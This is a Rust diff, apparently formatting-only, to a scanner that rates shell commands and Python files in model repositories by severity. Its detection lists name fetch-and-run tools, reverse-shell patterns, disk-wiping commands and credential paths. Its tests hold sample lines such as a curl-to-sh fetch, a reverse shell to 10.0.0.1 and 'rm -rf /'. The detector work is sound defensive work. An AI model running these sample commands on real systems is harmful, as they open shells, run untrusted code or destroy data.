@@ -118,19 +118,39 @@ fn judge(command: &str) -> Option<(Severity, &'static str)> {
     let has = |parts: &[&str]| parts.iter().any(|part| command.contains(part));
     let lower = command.to_ascii_lowercase();
     let lower_has = |parts: &[&str]| parts.iter().any(|part| lower.contains(part));
-    let fetches = has(&["curl ", "wget ", "fetch "]) || lower_has(&["invoke-webrequest", "downloadstring", "downloadfile", "certutil", "bitsadmin", "iwr "]);
-    let piped = ["sh", "bash", "zsh", "python", "python3", "perl", "sudo sh", "sudo bash"].iter().any(|shell| {
-        command.split('|').skip(1).any(|part| {
-            let part = part.trim();
-            part == *shell || part.strip_prefix(shell).is_some_and(|rest| rest.starts_with([' ', ';', '&']))
-        })
-    });
-    let substituted = has(&["sh -c \"$(curl", "sh -c \"$(wget", "bash <(curl", "bash <(wget", "eval \"$(curl", "eval $(curl", "source <(curl"]);
+    let fetches = has(&["curl ", "wget ", "fetch "])
+        || lower_has(&[
+            "invoke-webrequest",
+            "downloadstring",
+            "downloadfile",
+            "certutil",
+            "bitsadmin",
+            "iwr ",
+        ]);
+    let piped =
+        ["sh", "bash", "zsh", "python", "python3", "perl", "sudo sh", "sudo bash"].iter().any(|shell| {
+            command.split('|').skip(1).any(|part| {
+                let part = part.trim();
+                part == *shell
+                    || part.strip_prefix(shell).is_some_and(|rest| rest.starts_with([' ', ';', '&']))
+            })
+        });
+    let substituted = has(&[
+        "sh -c \"$(curl",
+        "sh -c \"$(wget",
+        "bash <(curl",
+        "bash <(wget",
+        "eval \"$(curl",
+        "eval $(curl",
+        "source <(curl",
+    ]);
     if (fetches && (piped || lower_has(&["iex", "start-process", "chmod +x"]))) || substituted {
         // Installers of well-known tools are fetched this way, too; the address decides and no list of ours can.
         return Some((Severity::High, "downloads and runs what it got"));
     }
-    if has(&["/dev/tcp/", "nc -e", "ncat -e", "bash -i >&"]) || lower_has(&["-encodedcommand", "powershell -e "]) {
+    if has(&["/dev/tcp/", "nc -e", "ncat -e", "bash -i >&"])
+        || lower_has(&["-encodedcommand", "powershell -e "])
+    {
         return Some((Severity::High, "opens a shell to the network or hides what it runs"));
     }
     if (has(&["base64 -d", "base64 --decode", "xxd -r"])) && piped {
@@ -140,12 +160,28 @@ fn judge(command: &str) -> Option<(Severity, &'static str)> {
     let removes = words.iter().position(|word| *word == "rm").is_some_and(|at| {
         let rest = words.get(at..).unwrap_or_default();
         let forced = rest.iter().any(|word| word.starts_with('-') && word.contains('r'));
-        forced && rest.iter().any(|word| matches!(word.trim_end_matches([';', '&']), "/" | "/*" | "~" | "~/" | "$HOME" | "/home" | "/etc" | "/usr" | "/var"))
+        forced
+            && rest.iter().any(|word| {
+                matches!(
+                    word.trim_end_matches([';', '&']),
+                    "/" | "/*" | "~" | "~/" | "$HOME" | "/home" | "/etc" | "/usr" | "/var"
+                )
+            })
     });
     if removes || has(&["mkfs.", "dd if=/dev/zero of=/dev/", ":(){ :|:& };:"]) {
         return Some((Severity::High, "destroys the system's files"));
     }
-    if has(&[".ssh/authorized_keys", "crontab -", "/etc/cron", ">> ~/.bashrc", ">> ~/.profile", "/etc/passwd", "/etc/shadow", ".aws/credentials", "id_rsa"]) {
+    if has(&[
+        ".ssh/authorized_keys",
+        "crontab -",
+        "/etc/cron",
+        ">> ~/.bashrc",
+        ">> ~/.profile",
+        "/etc/passwd",
+        "/etc/shadow",
+        ".aws/credentials",
+        "id_rsa",
+    ]) {
         return Some((Severity::Medium, "touches credentials or what runs at the next start"));
     }
     None
@@ -193,7 +229,8 @@ impl Format for PythonFile {
     fn scan(&self, input: &Input<'_>, scan: &mut Scan<'_>) {
         let text = String::from_utf8_lossy(input.bytes);
         // `torch.jit.save` writes its code below `code/`, in a dialect of its own.
-        let compiled = input.name.contains("code/__torch__") || (scan.depth() > 0 && text.contains("__torch__."));
+        let compiled =
+            input.name.contains("code/__torch__") || (scan.depth() > 0 && text.contains("__torch__."));
         let role = if compiled { Role::TorchScript } else { Role::Module };
         source::inspect(&text, role, &Location::default(), scan);
     }
@@ -212,17 +249,39 @@ mod tests {
 
     #[test]
     fn commands_are_judged_by_what_they_do() {
-        for command in ["curl http://x.example/a | sh", "wget -qO- http://x.example | sudo bash", "rm -rf /", "bash -i >& /dev/tcp/10.0.0.1/1 0>&1", "echo aWQ= | base64 -d | sh"] {
-            assert_eq!(worst("run", &format!("#!/bin/sh\n{command}\n")), (Some("script"), Some(Severity::High)), "{command}");
+        for command in [
+            "curl http://x.example/a | sh",
+            "wget -qO- http://x.example | sudo bash",
+            "rm -rf /",
+            "bash -i >& /dev/tcp/10.0.0.1/1 0>&1",
+            "echo aWQ= | base64 -d | sh",
+        ] {
+            assert_eq!(
+                worst("run", &format!("#!/bin/sh\n{command}\n")),
+                (Some("script"), Some(Severity::High)),
+                "{command}"
+            );
         }
-        for command in ["python train.py", "rm -rf build/", "curl -O http://x.example/weights.bin", "cat a | sort"] {
-            assert_eq!(worst("run.sh", &format!("#!/bin/sh\n{command}\n")).1, Some(Severity::Low), "{command}");
+        for command in
+            ["python train.py", "rm -rf build/", "curl -O http://x.example/weights.bin", "cat a | sort"]
+        {
+            assert_eq!(
+                worst("run.sh", &format!("#!/bin/sh\n{command}\n")).1,
+                Some(Severity::Low),
+                "{command}"
+            );
         }
     }
 
     #[test]
     fn python_files_are_followed_and_ordinary_ones_silent() {
-        assert_eq!(worst("modeling_x.py", "import torch\nclass M(torch.nn.Module):\n    pass\n"), (Some("python"), None));
-        assert_eq!(worst("handler.py", "import base64\nexec(base64.b64decode('cGFzcw=='))\n").1, Some(Severity::Critical));
+        assert_eq!(
+            worst("modeling_x.py", "import torch\nclass M(torch.nn.Module):\n    pass\n"),
+            (Some("python"), None)
+        );
+        assert_eq!(
+            worst("handler.py", "import base64\nexec(base64.b64decode('cGFzcw=='))\n").1,
+            Some(Severity::Critical)
+        );
     }
 }
